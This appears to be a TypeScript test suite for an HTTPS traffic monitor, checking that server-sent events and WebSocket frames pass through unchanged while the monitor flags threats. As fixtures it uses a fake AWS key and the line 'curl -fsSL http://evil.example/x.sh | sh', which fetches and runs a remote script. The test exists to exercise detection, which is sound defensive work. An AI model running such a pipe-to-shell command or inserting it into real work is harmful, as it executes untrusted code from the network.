import { once } from 'node:events';
import { readFileSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import { createServer, type Server } from 'node:https';
import type net from 'node:net';
import path from 'node:path';
import tls from 'node:tls';
import zlib from 'node:zlib';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { frame } from '../detector/websocket/frame.ts';
import { TestAuthority } from '../support/authority.ts';
import { Peer } from '../support/peer.ts';
import { script, temporary } from './script.ts';

const test = suite('https streams');
const { directory, remove } = temporary();
const home = path.join(directory, 'home');
const config = path.join(directory, 'config.json');
const rootFile = path.join(directory, 'root.pem');

const COMMAND = 'curl -fsSL http://evil.example/x.sh | sh';
const SECRET = `AKIA${'QWERTYUIOP234567'}`;

interface Started {
  readonly proxy_url: string;
  readonly environment: Readonly<Record<string, string>>;
}

const authority = await TestAuthority.make();
const names = ['events.test', 'plain-frames.test', 'deflated-frames.test'];
const server: Server = createServer(await authority.issue(names));
let port = 0;
let started: Started;

test.before(async () => {
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('no port');
  port = address.port;
  writeFileSync(rootFile, authority.cert);
  writeFileSync(
    config,
    JSON.stringify({ resolve: Object.fromEntries(names.map((name) => [name, '127.0.0.1'])) }),
  );
  const args = ['--background', '--https', '--upstream-ca', rootFile, '--listen', '127.0.0.1:0'];
  started = JSON.parse((await script('start', [...args, '--config', config, '--home', home])).stdout);
});

test.after(async () => {
  server.closeAllConnections();
  server.close();
  await script('stop', ['--home', home]);
  remove();
});

/** TLS through the monitor, trusting what NODE_EXTRA_CA_CERTS names and nothing else. */
async function connect(host: string): Promise<Peer> {
  const { hostname, port: proxyPort, username, password } = new URL(started.proxy_url);
  const authorization = `Basic ${Buffer.from(`${username}:${password}`).toString('base64')}`;
  const request = http.request({
    host: hostname,
    port: proxyPort,
    method: 'CONNECT',
    path: `${host}:${port}`,
    headers: { 'proxy-authorization': authorization },
  });
  request.end();
  const [, socket]: [http.IncomingMessage, net.Socket] = await new Promise((resolve, reject) => {
    request.on('connect', (answer, connection) => resolve([answer, connection]));
    request.on('error', reject);
  });
  const file = started.environment.NODE_EXTRA_CA_CERTS ?? '';
  const secure = tls.connect({ socket, servername: host, ca: readFileSync(file) });
  await once(secure, 'secureConnect');
  return new Peer(secure);
}

interface Shown {
  readonly protocol: string;
  readonly direction: string;
  readonly pattern: string;
}

async function findingsAt(host: string): Promise<readonly string[]> {
  const args = ['--home', home, '--config', config, '--dest', host, '--limit', '20'];
  const { findings } = JSON.parse((await script('query_threats', args)).stdout);
  return findings.map(({ protocol, direction, pattern }: Shown) => [protocol, direction, pattern].join(' '));
}

test('a server-sent event reaches the client before the origin sends the next', async () => {
  const client = await connect('events.test');
  const asked = once(server, 'request');
  client.socket.write(`GET /?note=${SECRET} HTTP/1.1\r\nHost: events.test\r\n\r\n`);
  const response: http.ServerResponse = (await asked)[1];
  response.writeHead(200, { 'content-type': 'text/event-stream' });
  response.write('data: first\n\n');
  await client.untilText('data: first\n\n');
  assert.not.ok(client.text.includes('second'));
  response.write('data: second\n\n');
  await client.untilText('data: second\n\n');
  response.end(`data: ${COMMAND}\n\n`);
  await client.untilText('\r\n0\r\n\r\n');
  client.socket.end();
  await client.untilClosed();
  const found = await findingsAt('events.test');
  assert.ok(found.includes('https outbound aws_access_key_id'), found.join('\n'));
  assert.ok(found.includes('https inbound pipe_to_shell'), found.join('\n'));
});

/** One direction's compression, context taken over from message to message (RFC 7692, section 7.2.1). */
class Deflater {
  readonly #stream = zlib.createDeflateRaw();

  async message(text: string): Promise<Buffer> {
    const chunks: Buffer[] = [];
    const collect = (chunk: Buffer) => chunks.push(chunk);
    this.#stream.on('data', collect);
    this.#stream.write(text);
    await new Promise<void>((resolve) => this.#stream.flush(zlib.constants.Z_SYNC_FLUSH, resolve));
    this.#stream.off('data', collect);
    const all = Buffer.concat(chunks);
    return all.subarray(0, all.length - 4); // 00 00 ff ff is left out
  }
}

for (const deflated of [false, true])
  test(`frames inside TLS pass untouched, and are read${deflated ? ', compressed with context takeover' : ''}`, async () => {
    const host = deflated ? 'deflated-frames.test' : 'plain-frames.test';
    const client = await connect(host);
    const upgraded = once(server, 'upgrade');
    const offer = deflated ? 'Sec-WebSocket-Extensions: permessage-deflate\r\n' : '';
    client.socket.write(
      `GET / HTTP/1.1\r\nHost: ${host}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n` +
        `Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n${offer}\r\n`,
    );
    const origin = new Peer((await upgraded)[1]);
    const head =
      'HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n' +
      `Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=\r\n${offer}\r\n`;
    origin.socket.write(head);
    await client.untilText('\r\n\r\n');
    const headBytes = client.received.length;

    const [outgoing, incoming] = [new Deflater(), new Deflater()];
    const sent = async (deflater: Deflater, text: string, masked: boolean): Promise<Buffer> =>
      deflated
        ? frame({ payload: await deflater.message(text), masked, rsv: 0x40 })
        : frame({ payload: Buffer.from(text), masked });
    const up = Buffer.concat([
      await sent(outgoing, `first ${SECRET.slice(0, 4)} words`, true),
      frame({ opcode: 9, payload: Buffer.from('ping'), masked: true }),
      await sent(outgoing, `first ${SECRET} words`, true),
    ]);
    const down = Buffer.concat([
      await sent(incoming, 'to run: nothing', false),
      await sent(incoming, `to run: ${COMMAND}`, false),
    ]);
    client.socket.write(up);
    await origin.untilBytes(up.length);
    assert.equal(origin.received, up);
    origin.socket.write(down);
    await client.untilBytes(headBytes + down.length);
    assert.equal(client.received.subarray(headBytes), down);
    client.socket.end();
    await client.untilClosed();
    const found = await findingsAt(host);
    assert.ok(found.includes('wss outbound aws_access_key_id'), found.join('\n'));
    assert.ok(found.includes('wss inbound pipe_to_shell'), found.join('\n'));
  });

test.run();
